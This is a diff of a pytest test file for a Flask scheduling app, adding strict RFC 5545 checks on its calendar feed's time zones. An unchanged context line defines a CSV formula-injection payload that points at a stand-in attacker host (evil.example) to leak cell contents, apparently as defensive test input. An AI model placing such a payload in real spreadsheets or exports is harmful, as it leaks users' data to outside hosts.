@@ -7,10 +7,13 @@ and the Content-Security-Policy, the calendar feed's time zones.
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import zipfile
+import zoneinfo
 from typing import Any
 
+import pytest
 from flask import Flask
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
@@ -299,3 +302,133 @@ def test_behind_a_trusted_proxy_clients_do_not_share_a_limit(tmp_path: Any, h: A
             db.select(AuditEntry.detail).where(AuditEntry.action == "sign_in_failed")
         ).all()
     assert details == [f"from 192.0.2.{i + 1}" for i in range(4)]
+
+
+# --- calendar feed: a VTIMEZONE for every TZID (RFC 5545, 3.6.5 and 3.2.19) --------------------
+
+
+def _strict_timezones(body: bytes) -> dict[str, list[tuple[dt.datetime, str]]]:
+    """Check an iCalendar body as RFC 5545 reads it; the TZID -> local times that use it.
+
+    Lines end in CRLF and are at most 75 octets; components nest; every ``TZID=`` parameter
+    names a ``VTIMEZONE`` of the calendar that has a ``TZID`` and at least one ``STANDARD`` or
+    ``DAYLIGHT`` part with ``DTSTART``, ``TZOFFSETFROM`` and ``TZOFFSETTO``; and at each local
+    time that uses it the offset the VTIMEZONE gives is the zone's real one.
+    """
+    assert body.endswith(b"\r\n") and b"\n" not in body.replace(b"\r\n", b"")
+    raw = body.split(b"\r\n")[:-1]
+    assert all(len(line) <= 75 for line in raw), "line longer than 75 octets"
+    lines: list[str] = []
+    for line in raw:
+        if line[:1] in (b" ", b"\t"):
+            lines[-1] += line[1:].decode()
+        else:
+            lines.append(line.decode())
+    stack: list[str] = []
+    zones: dict[str, list[dict[str, str]]] = {}
+    used: dict[str, list[tuple[dt.datetime, str]]] = {}
+    zone_id, part = "", None
+    for line in lines:
+        name_params, _, value = line.partition(":")
+        name, *params = name_params.split(";")
+        if name == "BEGIN":
+            stack.append(value)
+            if value == "VTIMEZONE":
+                zone_id = ""
+            elif value in ("STANDARD", "DAYLIGHT"):
+                assert stack[-2] == "VTIMEZONE"
+                part = {"kind": value}
+            continue
+        if name == "END":
+            assert stack.pop() == value, f"END:{value} does not close its BEGIN"
+            if value in ("STANDARD", "DAYLIGHT"):
+                assert part is not None
+                assert {"DTSTART", "TZOFFSETFROM", "TZOFFSETTO"} <= set(part), part
+                assert zone_id, "TZID must come before the zone's parts"
+                zones.setdefault(zone_id, []).append(part)
+                part = None
+            continue
+        if stack and stack[-1] == "VTIMEZONE" and name == "TZID":
+            zone_id = value
+        elif part is not None:
+            if name == "RDATE":  # more onsets of the same rule
+                value = ",".join(filter(None, [part.get("RDATE", ""), value]))
+            assert name != "RRULE", "this check expands RDATE only"
+            part[name] = value
+        for param in params:
+            key, _, tzid = param.partition("=")
+            if key == "TZID":
+                local = dt.datetime.strptime(value, "%Y%m%dT%H%M%S")
+                used.setdefault(tzid.strip('"'), []).append((local, name))
+    assert not stack
+    for tzid, times in used.items():
+        assert tzid in zones, f"TZID={tzid} has no VTIMEZONE"
+        for local, _prop in times:
+            # the last onset at or before the local time gives its offset
+            onsets = sorted(
+                (dt.datetime.strptime(start, "%Y%m%dT%H%M%S"), p["TZOFFSETTO"])
+                for p in zones[tzid]
+                for start in [p["DTSTART"], *filter(None, p.get("RDATE", "").split(","))]
+            )
+            before = [o for o in onsets if o[0] <= local]
+            assert before, f"{tzid}: no rule covers {local}"
+            offset = before[-1][1]
+            real = local.replace(tzinfo=zoneinfo.ZoneInfo(tzid)).strftime("%z")
+            assert offset == real, (tzid, local, offset, real)
+    return used
+
+
+def _frame(tz: str, days: list[str]) -> Any:
+    import pandas as pd
+
+    rows = []
+    for day in days:
+        start = pd.Timestamp(f"{day} 08:00", tz=tz)
+        rows.append(
+            (
+                "A1",
+                dt.date.fromisoformat(day),
+                "work",
+                "voice",
+                start,
+                start + pd.Timedelta(hours=9),
+            )
+        )
+        lunch = start + pd.Timedelta(hours=4)
+        rows.append(
+            ("A1", dt.date.fromisoformat(day), "lunch", "", lunch, lunch + pd.Timedelta(hours=1))
+        )
+    return pd.DataFrame(rows, columns=["agent_id", "date", "activity", "channel", "start", "end"])
+
+
+@pytest.mark.parametrize(
+    ("tz", "days"),
+    [
+        ("Asia/Dubai", ["2025-10-27", "2025-10-28"]),
+        (
+            "Europe/London",
+            ["2025-03-29", "2025-03-31", "2025-10-25", "2025-10-27"],
+        ),  # both DST ends
+        ("America/Sao_Paulo", ["2025-01-06"]),
+    ],
+)
+def test_feed_has_a_vtimezone_for_every_tzid(tz: str, days: list[str]) -> None:
+    from icalendar import Calendar
+
+    from web.ical import agent_calendar
+
+    stamp = dt.datetime(2025, 10, 20, tzinfo=dt.UTC)
+    body = agent_calendar(_frame(tz, days), "A1", name="Shifts", published_at=stamp, version=3)
+    used = _strict_timezones(body)
+    assert set(used) == {tz} and len(used[tz]) == 4 * len(days)
+    parsed = Calendar.from_ical(body)
+    assert parsed.get_missing_tzids() == set()
+    assert [str(z.tz_name) for z in parsed.timezones] == [tz]
+
+
+def test_published_feed_passes_the_strict_check(published_app: Flask, h: Any) -> None:
+    c = published_app.test_client()
+    assert h.sign_in(c, "agent").status_code == 302
+    body = c.get("/me/calendar.ics").data
+    used = _strict_timezones(body)
+    assert list(used) == ["Asia/Dubai"] and len(used["Asia/Dubai"]) >= 10
